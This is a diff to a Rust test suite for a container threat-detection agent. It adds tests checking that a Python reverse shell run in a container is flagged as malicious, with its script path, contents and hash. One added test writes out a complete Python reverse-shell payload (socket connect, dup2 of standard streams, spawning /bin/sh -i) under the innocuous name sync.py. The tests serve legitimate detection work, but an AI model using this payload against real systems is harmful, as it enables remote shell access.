@@ -30,6 +30,7 @@ const COMPILER: &str = "Defense Evasion: Launch Code Compiler Tool In Container"
 const BUILT_IN: &str = "Execution: Built in Malicious Binary Executed";
 const ADDED: &str = "Execution: Added Malicious Binary Executed";
 const MODIFIED: &str = "Execution: Modified Malicious Binary Executed";
+const MALICIOUS_PYTHON: &str = "Execution: Malicious Python executed";
 
 type SpawnRequest = (Command, mpsc::Sender<Child>);
 
@@ -420,6 +421,68 @@ fn python_dup2_subprocess_reverse_shell() {
     assert_eq!(args(&f), ["/bin/sh", "-i"]);
     assert_container(&f, &c);
     assert_peer(&f, port);
+
+    // The python process itself: the model scores the `-c` code as malicious.
+    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
+    assert_container(&m, &c);
+    let p = &m["processes"][0];
+    assert_eq!(p["name"], "python3");
+    assert_eq!(p["args"][1], "-c");
+    let code = p["args"][2].as_str().unwrap();
+    let script = &p["script"];
+    assert!(
+        script.get("path").is_none(),
+        "a -c literal has no path: {script}"
+    );
+    assert_eq!(script["contents"], code);
+    assert_eq!(script["size"], code.len());
+    assert_eq!(script["sha256"], sha256_hex(code.as_bytes()));
+    assert!(m["sourceProperties"]["Model_Score"].as_f64().unwrap() >= 0.5);
+    assert!(!m["sourceProperties"]["Model_Top_Reasons"]
+        .as_array()
+        .unwrap()
+        .is_empty());
+}
+
+/// A Python reverse-shell *script file* in the container: the finding carries its path,
+/// contents and the SHA-256 of the file.
+#[test]
+fn malicious_python_script_file_is_reported_with_its_contents() {
+    let images = require_containers!();
+    let (agent, c, _port) = reverse_shell(&images, &images.debian, "py-file", |p| {
+        let body = format!(
+            "import socket, subprocess, os\n\
+             s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
+             s.connect(('127.0.0.1', {p}))\n\
+             os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\
+             subprocess.call(['/bin/sh', '-i'])\n"
+        );
+        sh(
+            "mkdir -p /opt/job && printf '%s' \"$0\" > /opt/job/sync.py && cd /opt/job && exec python3 sync.py"
+                .to_string(),
+        )
+        .into_iter()
+        .chain([body])
+        .collect()
+    });
+    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
+    let script = &m["processes"][0]["script"];
+    assert_eq!(
+        script["path"], "sync.py",
+        "the path as the process names it"
+    );
+    let written = c.exec_ok(&["cat", "/opt/job/sync.py"]).unwrap();
+    assert_eq!(script["contents"], written.as_str());
+    assert_eq!(script["sha256"], sha256_hex(written.as_bytes()));
+    assert_eq!(
+        m["processes"][0]["args"],
+        serde_json::json!(["python3", "sync.py"])
+    );
+}
+
+fn sha256_hex(b: &[u8]) -> String {
+    use sha2::Digest;
+    hex::encode(sha2::Sha256::digest(b))
 }
 
 #[test]
@@ -543,22 +606,34 @@ fn the_agent_serves_its_findings_over_the_api() {
             .map(|b| format!("%{b:02X}"))
             .collect::<String>()
     );
-    let mut s = std::net::TcpStream::connect(host).unwrap();
-    write!(s, "GET {path} HTTP/1.0\r\nHost: {host}\r\n\r\n").unwrap();
-    let mut r = String::new();
-    s.read_to_string(&mut r).unwrap();
-    assert!(
-        r.starts_with("HTTP/1.0 200") || r.starts_with("HTTP/1.1 200"),
-        "{r}"
-    );
-    let body: Value = serde_json::from_str(r.split("\r\n\r\n").nth(1).unwrap()).unwrap();
-    let names: Vec<&str> = body["findings"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|f| f["name"].as_str().unwrap())
-        .collect();
-    assert!(names.contains(&f["name"].as_str().unwrap()), "{body}");
+    // The store write is batched after the JSON line: poll the API briefly.
+    let want = f["name"].as_str().unwrap();
+    let deadline = Instant::now() + WAIT;
+    loop {
+        let mut s = std::net::TcpStream::connect(host).unwrap();
+        write!(s, "GET {path} HTTP/1.0\r\nHost: {host}\r\n\r\n").unwrap();
+        let mut r = String::new();
+        s.read_to_string(&mut r).unwrap();
+        assert!(
+            r.starts_with("HTTP/1.0 200") || r.starts_with("HTTP/1.1 200"),
+            "{r}"
+        );
+        let body: Value = serde_json::from_str(r.split("\r\n\r\n").nth(1).unwrap()).unwrap();
+        let names: Vec<&str> = body["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|f| f["name"].as_str().unwrap())
+            .collect();
+        if names.contains(&want) {
+            break;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "{want} not served within {WAIT:?}: {body}"
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    }
 }
 
 #[test]
